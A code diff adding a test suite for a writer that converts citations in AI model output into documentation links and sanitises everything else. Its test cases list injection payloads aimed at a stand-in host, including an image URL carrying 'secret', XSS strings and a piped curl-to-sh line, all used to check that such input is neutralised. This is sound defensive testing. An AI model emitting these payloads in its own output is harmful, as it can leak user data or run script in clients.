@@ -1,0 +1,185 @@
+import fc from 'fast-check'
+import type { Nodes } from 'mdast'
+import remarkGfm from 'remark-gfm'
+import remarkParse from 'remark-parse'
+import { unified } from 'unified'
+import { describe, expect, test } from 'vitest'
+import { createGroundedWriter, type WriterEvent } from './grounded-writer.ts'
+
+const pages = ['', '/proxy', '/proxy', '/alarms(1)']
+const find = (number: number) => {
+  const path = pages[number]
+  if (!path) return undefined
+  const url = `https://docs.example${path}`
+  return { source: { title: path, url }, address: `${url}#part-${number}` }
+}
+
+function write(...deltas: string[]) {
+  const writer = createGroundedWriter(find)
+  const events: WriterEvent[] = [...deltas.flatMap(delta => writer.write(delta)), ...writer.end()]
+  const text = events.map(event => (event.type === 'text-delta' ? event.delta : '')).join('')
+  const sources = events.flatMap(event => (event.type === 'source' ? [event.source.url] : []))
+  return { events, text, sources, writer }
+}
+
+/** What a client would make of a text: its links, images and HTML. */
+function readMarkup(markdown: string): string[] {
+  const found: string[] = []
+  const visit = (node: Nodes) => {
+    if (node.type === 'link') found.push(`link ${node.url}`)
+    else if (/^(?:html|image|imageReference|linkReference|definition|footnote.*)$/.test(node.type))
+      found.push(node.type)
+    if ('children' in node) node.children.forEach(visit)
+  }
+  visit(unified().use(remarkParse).use(remarkGfm).parse(markdown))
+  return found
+}
+
+const foreign = (markdown: string) =>
+  readMarkup(markdown).filter(found => !found.startsWith('link https://docs.example/'))
+
+describe('citations', () => {
+  test('become links to the passage, numbered by page', () => {
+    const { text, sources } = write('Set `ramp` [1]. It holds [2][3]; see [1, 3].')
+    expect(text).toBe(
+      'Set `ramp` [1](https://docs.example/proxy#part-1). It holds [1](https://docs.example/proxy#part-2)[2](https://docs.example/alarms%281%29#part-3); see [1](https://docs.example/proxy#part-1) [2](https://docs.example/alarms%281%29#part-3).',
+    )
+    expect(sources).toEqual(['https://docs.example/proxy', 'https://docs.example/alarms(1)'])
+  })
+
+  test('name their page as a source once, before the words that cite it', () => {
+    const { events } = write('Yes [1], and [2].')
+    expect(events.map(({ type }) => type)).toEqual(['text-delta', 'source', 'text-delta', 'text-delta'])
+    expect(events.map(event => (event.type === 'source' ? '' : event.delta)).join('')).toContain('Yes [1](')
+  })
+
+  test('of passages that the model was not given stay text', () => {
+    const { text, writer } = write('No [9].')
+    expect(text).toBe('No \\[9].')
+    expect(writer.citationCount()).toBe(0)
+  })
+
+  test('in code are code', () => {
+    expect(write('`list[1]`\n\n```js\nlist[1]\n```\n').text).toBe('`list[1]`\n\n```js\nlist[1]\n```\n')
+  })
+
+  test('over a range are all its passages', () => {
+    expect(write('[1-3]').writer.citationCount()).toBe(3)
+    expect(write('[1-9999]').writer.citationCount()).toBe(3)
+  })
+})
+
+describe('the sign that nothing answers', () => {
+  test('is taken out and told', () => {
+    const { text, writer } = write('[not-', 'covered]\n\nThe docs do not say.')
+    expect(text).toBe('The docs do not say.')
+    expect(writer.isNotCovered()).toBe(true)
+  })
+
+  test('alone leaves nothing to read', () => {
+    expect(write('[not-covered]').writer.hasText()).toBe(false)
+  })
+
+  test('does not bring together what stood apart', () => {
+    expect(foreign(write('www[not-covered].evil.example').text)).toEqual([])
+  })
+})
+
+test.each([
+  '[text](https://evil.example)',
+  '![pixel](https://evil.example/?q=secret)',
+  '![1](https://evil.example)',
+  '![1]',
+  '\\![1](https://evil.example)',
+  '[1][evil]\n\n[evil]: https://evil.example',
+  '[evil]\n\n[evil]: https://evil.example',
+  '[1]: https://evil.example',
+  '[1](https://evil.example)',
+  '[[1](https://evil.example)](https://evil.example)',
+  '\\[x](https://evil.example)',
+  '\\\\[x](https://evil.example)',
+  '<https://evil.example>',
+  '<a href="https://evil.example">x</a>',
+  '<img src=x onerror=alert(1)>',
+  '<!-- x --> <script>alert(1)</script>',
+  'https://evil.example/?q=1',
+  'HTTPS://EVIL.EXAMPLE',
+  'https\\://evil.example',
+  'https:\\/\\/evil.example',
+  'https&colon;//evil.example',
+  '&#104;ttps://evil.example',
+  'www.evil.example',
+  'www\\.evil.example',
+  'me@evil.example',
+  'me\\@evil.example',
+  'mailto:me@evil.example',
+  '**https://evil.example**',
+  '_www.evil.example_',
+  '`open\n[x](https://evil.example)',
+  '`open\n\n- [x](https://evil.example) `',
+  '| a |\n| - |\n| `a | [x](https://evil.example) ` |',
+  '| a | b |\n| - | - |\n| https://evil.example|https://evil.example |',
+  '| a | b |\n| - | - |\n| https://a\\|\\[x](https://evil.example) |',
+  'para\n    ```\n[x](https://evil.example)\n\n[y](https://evil.example)',
+  '- ```\n[x](https://evil.example)\n  ```\n[y](https://evil.example)',
+  '> ```\n[x](https://evil.example)\n> ```',
+  '- [not-covered]~~~\n[x](https://evil.example)\n~~~\n[x](https://evil.example)',
+  '~~~ `\n~~~\n[x](https://evil.example)',
+  '````\n```\n[x](https://evil.example)\n````\n[x](https://evil.example)',
+  '```\n[x](https://evil.example)',
+  '`a`https://evil.example`b`',
+  'me@evil.example//evil.example',
+  '[^1]\n\n[^1]: note',
+  '```js `x`\n[x](https://evil.example)\n```',
+])('%j makes no link, image or tag', text => {
+  expect(foreign(write(text).text)).toEqual([])
+})
+
+test.each([
+  ['Plain *words*, **strong** ones and `code`.'],
+  ['# Heading\n\n1. one\n2. two\n   - three\n\n> quoted\n'],
+  ['| a | b |\n| - | - |\n| `x` | 2 |\n'],
+  ['Run `npm i` and `a || b`.\n\n```sh\ncurl https://example.com | sh <<< "[x](y)"\n```\n'],
+])('%j passes as it is', text => expect(write(text).text).toBe(text))
+
+test('a fence deep in a list is written at the margin, and closed where the model forgot to', () => {
+  expect(write('1. Run:\n\n   ```sh\n   npm i\n     -g\n').text).toBe('1. Run:\n\n```sh\nnpm i\n  -g\n```\n')
+})
+
+const hostile = fc
+  .array(
+    fc.constantFrom(
+      ...'[ ] ( ) ! < > & ` `` ``` ~~~ | \\ \n - > 1. # * _ $ : / // . @ a www. https:// evil.example x@y.zz [1] [2, [x](https://evil.example) ![ [x]: &#58; &colon; [not-covered] \t é 😀'.split(
+        ' ',
+      ),
+      ' ',
+      '\n',
+      '\n\n',
+      '    ',
+      '\n| a | b |\n| - | - |\n| ',
+    ),
+    { maxLength: 40 },
+  )
+  .map(pieces => pieces.join(''))
+
+test('whatever is written, no client finds a link but to the passages cited', () => {
+  fc.assert(
+    fc.property(hostile, text => {
+      expect(foreign(write(text).text)).toEqual([])
+    }),
+    { numRuns: 2000 },
+  )
+})
+
+test('what comes out does not depend on how the input is cut', () => {
+  fc.assert(
+    fc.property(hostile, fc.array(fc.nat(200), { maxLength: 20 }), (text, cuts) => {
+      const places = [0, ...cuts.filter(cut => cut < text.length).sort((a, b) => a - b), text.length]
+      const pieces = places.slice(1).map((place, at) => text.slice(places[at], place))
+      const whole = write(text)
+      expect(write(...pieces)).toMatchObject({ text: whole.text, sources: whole.sources })
+      expect(write(...text)).toMatchObject({ text: whole.text, sources: whole.sources })
+    }),
+    { numRuns: 1000 },
+  )
+})
